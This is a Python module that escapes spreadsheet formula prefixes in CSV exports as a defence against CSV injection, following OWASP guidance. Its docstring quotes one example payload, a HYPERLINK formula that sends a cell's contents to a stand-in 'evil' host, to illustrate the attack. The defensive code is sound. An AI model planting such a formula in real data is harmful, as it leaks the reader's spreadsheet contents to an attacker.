"""CSV that is safe to open in a spreadsheet: every CSV the product writes goes through here.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is read as a formula by Excel, LibreOffice and
Google Sheets: a Slurm job named ``=HYPERLINK("http://evil/?"&A1,"x")``, which any cluster user
can choose, would then run in the reader's spreadsheet. As OWASP recommends ("CSV Injection"),
such a cell is prefixed with a single quote (shown as text, the quote hidden by most
spreadsheets) and every field is quoted, embedded quotes doubled.

A cell that is a plain number (``-3.5``, ``+2``, ``-1e-3``) is left as it is: a spreadsheet
reads it as the number it is, it cannot call anything, and quoting it would turn every
negative figure into text that no sum or chart can use (the trade-off OWASP notes). Numeric
columns are never touched; the rule applies to text cells. The grids' own exports apply the
same rule in the browser (``assets/30-export.js``, ``ffCsvCell``).
"""

from __future__ import annotations

import csv
import re
from typing import IO, Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


def cell(value: Any) -> Any:
    """``value`` safe as a spreadsheet cell: text starting like a formula gets a leading
    ``'``; anything else (numbers, plain-number text, other text) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells are safe (``cell``); numeric columns as they are."""
    out = df.copy()
    for c in out.columns:
        dtype = out[c].dtype
        if isinstance(dtype, pd.CategoricalDtype) or pd.api.types.is_string_dtype(dtype):
            out[c] = out[c].astype(object).map(cell)
    return out


def to_csv(df: pd.DataFrame, target: str | IO[str] | None = None) -> str | None:
    """``df`` as safe CSV (``frame``, every field quoted) into ``target`` (a path or a text
    stream), or returned as text when ``target`` is None."""
    return frame(df).to_csv(target, index=False, quoting=csv.QUOTE_ALL)
